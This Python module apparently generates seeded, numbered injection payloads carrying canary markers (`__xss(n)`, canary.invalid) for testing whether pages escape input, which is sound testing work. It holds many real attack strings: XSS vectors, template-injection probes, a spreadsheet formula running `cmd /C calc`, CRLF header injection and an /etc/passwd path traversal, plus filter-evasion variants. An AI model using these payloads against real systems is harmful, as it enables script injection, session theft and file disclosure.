"""Words meant to run as script where a page shows them unescaped. Our own, made from a seed.

A payload carries its number: what runs calls `__xss(n)`, fetches from canary.invalid, or leaves an element
whose id is `canary-n`. All are plain text to a page that shows them as text.
"""

from __future__ import annotations

import random

_OUT = (
    "", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</svg>",
    "</select>", "</template>", "\\", '\\"', "&quot;>", "&#34;>", '\x00">', '»"', "\u2028'",
)  # fmt: skip
"""Ways out of where a value may stand."""
_ELEMENTS = (
    '<script id="canary-§">__xss(§)</script>',
    '<img id="canary-§" src=x onerror="__xss(§)">',
    '<img id=canary-§ src="http://canary.invalid/§">',
    '<svg id="canary-§" onload="__xss(§)"></svg>',
    '<svg id="canary-§"><script>__xss(§)</script></svg>',
    '<svg id="canary-§"><animate onbegin="__xss(§)" attributeName="x" dur="1s"/></svg>',
    '<svg id="canary-§"><use href="data:image/svg+xml,<svg id=\'x\' onload=__xss(§)>#x"/></svg>',
    '<math id="canary-§"><mtext><style><img src onerror=__xss(§)></style></mtext></math>',
    '<iframe id="canary-§" srcdoc="<script>parent.__xss(§)</script>"></iframe>',
    '<iframe id="canary-§" src="javascript:parent.__xss(§)"></iframe>',
    '<a id="canary-§" href="javascript:__xss(§)">x</a>',
    '<form id="canary-§" action="javascript:__xss(§)"><button autofocus>x</button></form>',
    '<input id="canary-§" autofocus onfocus="__xss(§)">',
    '<details id="canary-§" open ontoggle="__xss(§)"><summary>x</summary></details>',
    '<video id="canary-§"><source onerror="__xss(§)"></video>',
    '<object id="canary-§" data="javascript:__xss(§)"></object>',
    '<meta id="canary-§" http-equiv="refresh" content="0;url=javascript:__xss(§)">',
    '<link id="canary-§" rel="stylesheet" href="http://canary.invalid/§.css">',
    '<style id="canary-§">@import "http://canary.invalid/§.css";</style>',
    '<base id="canary-§" href="http://canary.invalid/§/">',
    '<template id="canary-§"><script>__xss(§)</script></template>',
    '<div id="canary-§" hx-get="http://canary.invalid/§" hx-trigger="load" hx-on:load="__xss(§)">x</div>',
    '<p id="canary-§" data-help data-close data-confirm="x" hx-post="/language" hx-trigger="load">x</p>',
    '<dialog id="canary-§" open onclose="__xss(§)">x</dialog>',
)
_ATTRIBUTES = (
    ' onmouseover="__xss(§)" onfocus="__xss(§)" autofocus id="canary-§" x="',
    " style='background:url(http://canary.invalid/§)' id='canary-§' x='",
    ' formaction="javascript:__xss(§)" id="canary-§" ',
    " onload=__xss(§) id=canary-§ ",
)
_PLAIN = (
    "javascript:__xss(§)", "JaVaScRiPt:__xss(§)", "java\tscript:__xss(§)", "\x01javascript:__xss(§)",
    "data:text/html,<script>parent.__xss(§)</script>", "vbscript:__xss(§)", "//canary.invalid/§",
    "http://canary.invalid/§", "{{ 7*7 }}{{ __xss(§) }}", "${__xss(§)}", "{% debug § %}",
    "{{ request.session.§ }}", "#{__xss(§)}", "<%= __xss(§) %>", "%(secret)s %s %d §", "{0.__class__} §",
    "');__xss(§);//", "\\';__xss(§);//", "`;__xss(§);`", "};__xss(§);{", "\\u003cscript\\u003e__xss(§)",
    "&lt;script&gt;__xss(§)&lt;/script&gt;", "%3Cscript%3E__xss(§)%3C/script%3E",
    "＜script＞__xss(§)＜/script＞", "<scr\x00ipt>__xss(§)</scr\x00ipt>", "=cmd|' /C calc'!A§",
    "\u202e)(§ssx__\u202c", "\u2066<script>__xss(§)</script>\u2069", "\ufeff<script>__xss(§)</script>",
    "ı̇<ſcript>__xss(§)</ſcript>", "*{}</style>@import'http://canary.invalid/§';",
    "red;background:url(http://canary.invalid/§)", "expression(__xss(§))",
    "x\r\nSet-Cookie: canary=§\r\n\r\n<b>",
    "../../../../etc/passwd%00§", "[x](javascript:__xss(§))", "![x](http://canary.invalid/§)",
)  # fmt: skip
_SPACES = (" ", "\n", "\t", "/", "\x0c", "  ")


def payload(number: int, seed: int = 26) -> str:
    """The payload of a number, always the same. At most some 180 characters."""
    chance = random.Random(seed * 1_000_003 + number)  # noqa: S311 - reproducible, not secret
    kinds = (_ELEMENTS, _ATTRIBUTES, _PLAIN)
    kind = kinds[number % 3] if number % 7 else _ELEMENTS
    made = kind[(number // 3) % len(kind)].replace("§", str(number))
    if kind is _ELEMENTS:
        made = chance.choice(_OUT) + _bent(made, chance)
    elif kind is _ATTRIBUTES:
        made = chance.choice(_OUT[1:4]) + made
    return made


def _bent(text: str, chance: random.Random) -> str:
    """The same to a browser: other case, other white space, no end."""
    bend = chance.randrange(5)
    if bend == 0:
        head, _, rest = text.partition(" ")
        return f"{head.swapcase()} {rest}" if rest else text
    if bend == 1:
        return text.replace(" ", chance.choice(_SPACES), 1)
    if bend == 2 and text.endswith(">"):
        return text[:-1]
    return text
